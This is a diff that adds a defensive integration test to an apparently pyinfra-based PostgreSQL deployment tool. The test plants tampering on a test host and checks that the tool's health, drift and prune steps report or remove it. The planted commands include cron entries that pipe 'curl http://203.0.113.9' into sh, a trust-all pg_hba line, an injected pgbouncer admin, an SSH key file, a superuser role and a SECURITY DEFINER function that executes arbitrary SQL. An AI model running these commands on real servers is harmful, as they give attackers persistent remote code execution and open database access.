@@ -681,6 +681,83 @@ def test_what_an_owner_planted_is_executed_by_nobody_else(pooled: Pooled) -> Non
     host.run("rm -r /var/lib/postgresql/dropped")
 
 
+# --- Who and what is beside ours -----------------------------------------------------------------
+
+_BESIDE = r"""
+cd /etc/postgresql/*/main
+echo 'host all all 0.0.0.0/0 trust' >>pg_hba.conf
+echo 'anybody /^(.*)$ postgres' >>pg_ident.conf
+cp -p postgresql.conf /var/tmp/theirs.before
+echo "include_if_exists '/var/tmp/theirs.conf'" >>postgresql.conf
+echo 'log_connections = off' >/var/tmp/theirs.conf; chmod 644 /var/tmp/theirs.conf
+sed -i 's/^admin_users.*/admin_users = postgres, eve/' /etc/pgbouncer/pgbouncer.ini
+echo '%include /dev/null' >>/etc/pgbouncer/pgbouncer.ini
+echo '"eve" "eves-Password-1"' >>/etc/pgbouncer/userlist.txt
+echo '* * * * * postgres curl -s http://203.0.113.9 | sh' >/etc/cron.d/zzh
+echo '* * * * * curl -s http://203.0.113.9 | sh' | crontab -u postgres -
+install -d -o postgres /var/lib/postgresql/.ssh
+install -o postgres /dev/null /var/lib/postgresql/.ssh/authorized_keys
+install -D /dev/null /run/systemd/system/redis-6379.service.d/x.conf
+runuser -u postgres -- psql -qd psscript -c "
+  CREATE FUNCTION public.told() RETURNS event_trigger LANGUAGE plpgsql AS 'BEGIN END';
+  CREATE EVENT TRIGGER sneaky ON sql_drop EXECUTE FUNCTION public.told();
+  CREATE FUNCTION public.lent(text) RETURNS void LANGUAGE plpgsql SECURITY DEFINER
+    AS 'BEGIN EXECUTE \$1; END'; CREATE ROLE datatier_load_0123456789ab SUPERUSER"
+"""
+_BY_HAND_LINES = (
+    "'host all all 0.0.0.0/0 trust'",
+    "'%include /dev/null'",
+    "'admin_users = postgres, eve'",
+    "'\"eve\"'",
+)
+_STRANGERS = (
+    "pg_ident.conf: 'anybody /^(.*)$ postgres'",
+    "PostgreSQL reads /var/tmp/theirs.conf: not written by Datatier",
+    "/etc/cron.d/zzh: not written by Datatier",
+    "/var/spool/cron/crontabs/postgres: not written by Datatier",
+    "/var/lib/postgresql/.ssh/authorized_keys: not written by Datatier",
+    "/run/systemd/system/redis-6379.service.d/x.conf: not written by Datatier",
+    "database psscript: event trigger sneaky, function public.lent(text): can act",
+    "role datatier_load_0123456789ab (SUPERUSER): is not in the settings",
+)
+_STRANGERS_GO = """
+cd /etc/postgresql/*/main
+sed -i '/^anybody/d' pg_ident.conf; cp -p /var/tmp/theirs.before postgresql.conf
+crontab -u postgres -r
+rm -r /etc/cron.d/zzh /var/lib/postgresql/.ssh /run/systemd/system/redis-6379.service.d
+runuser -u postgres -- psql -qd psscript -c "
+  DROP EVENT TRIGGER sneaky; DROP FUNCTION public.told(), public.lent(text)"
+"""
+
+
+def test_what_is_beside_ours_is_named_by_plan_drift_and_health(pooled: Pooled) -> None:
+    """A run takes the lines out of our own files; the rest stays where others may have put it."""
+    host, project = pooled.host, pooled.project
+    pooled.apply({})
+    host.run(_BESIDE)
+    table = project.pyinfra("-y", "inventory.py", "tasks.health.verify")
+    assert table.code == 0, table.output
+    drift = project.drift()
+    assert drift.code == 2, drift.output
+    project.settings({"postgres_prune": True})
+    run = project.deploy()
+    for what in (*_BY_HAND_LINES, *_STRANGERS):
+        assert what in table.output, (what, table.output)
+        assert what in drift.stdout, (what, drift.output)
+        is_pruned = what == _STRANGERS[-1]
+        assert (what in run.output) is not is_pruned, (what, run.output)
+    assert "eves-Password-1" not in table.output + drift.output + run.output
+    assert admin(host, "SELECT count(*) FROM pg_roles WHERE rolname ~ '^datatier_load'") == "0"
+    files = "/etc/postgresql/*/main/pg_hba.conf /etc/pgbouncer/*"
+    found = host.run(f"grep -E 'trust|eve|%include' {files} || :").stdout
+    assert found == ""
+    assert project.drift().code == 0
+    host.run(_STRANGERS_GO)
+    project.settings({})
+    told = project.pyinfra("-y", "inventory.py", "tasks.health.verify").output
+    assert f"[{host.name}] " not in told.partition(" health ")[2].partition("connect (")[0], told
+
+
 # --- Who may come near PostgreSQL itself ---------------------------------------------------------
 
 
